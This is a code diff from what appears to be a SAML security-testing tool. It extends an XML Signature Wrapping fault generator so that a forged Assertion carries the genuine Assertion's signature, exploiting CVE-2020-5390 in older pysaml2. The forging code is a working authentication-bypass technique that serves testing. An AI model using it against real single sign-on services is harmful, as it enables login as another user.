@@ -145,6 +145,11 @@ def _two_assertions(victim: str | None, first: bool) -> Fault:
 
 
 def _xsw_response_in_response(victim: str | None) -> Fault:
+    # The attacker's Assertion carries the genuine Assertion's Signature (moved out of the nested one,
+    # whose digest does not cover it), so its Reference names the nested Assertion, not its carrier:
+    # an SP that verifies "the first Signature under the element" (xmlsec1 --node-id) without checking
+    # that the Reference names that element signs the forged one in (CVE-2020-5390, pysaml2 < 5.0.0;
+    # measured: lab/twins, truth pysaml2-4.9.0).
     def signed(root: etree._Element, ctx: FaultContext) -> etree._Element:
         outer = copy.deepcopy(root)
         for s in _iter_tag(outer, q(DS, "Signature")):
@@ -154,6 +159,11 @@ def _xsw_response_in_response(victim: str | None) -> Fault:
         if a is not None:
             a.set("ID", new_id())
             _victimize(a, victim)
+            inner_a = root.find(q(SAML, "Assertion"))
+            sig = inner_a.find(q(DS, "Signature")) if inner_a is not None else None
+            if sig is not None:
+                inner_a.remove(sig)
+                a.find(q(SAML, "Issuer")).addnext(sig)
         outer.append(root)
         return outer
 
@@ -161,8 +171,9 @@ def _xsw_response_in_response(victim: str | None) -> Fault:
 
 
 register_factory("xsw-response-in-response",
-                 "An unsigned attacker Response (new IDs) wrapping the valid signed Response as its last child",
-                 ("XSW-10", "pysaml2 signed-xsw-response-in-response"), victim=None)(_xsw_response_in_response)
+                 "An unsigned attacker Response (new IDs) wrapping the signed Response as its last child; the attacker's "
+                 "Assertion carries the nested Assertion's Signature (first signature, Reference still to the nested one)",
+                 ("XSW-10", "CVE-2020-5390", "pysaml2 signed-xsw-response-in-response-first-sig"), victim=None)(_xsw_response_in_response)
 
 
 def _xsw_wrapper(victim: str | None) -> Fault:
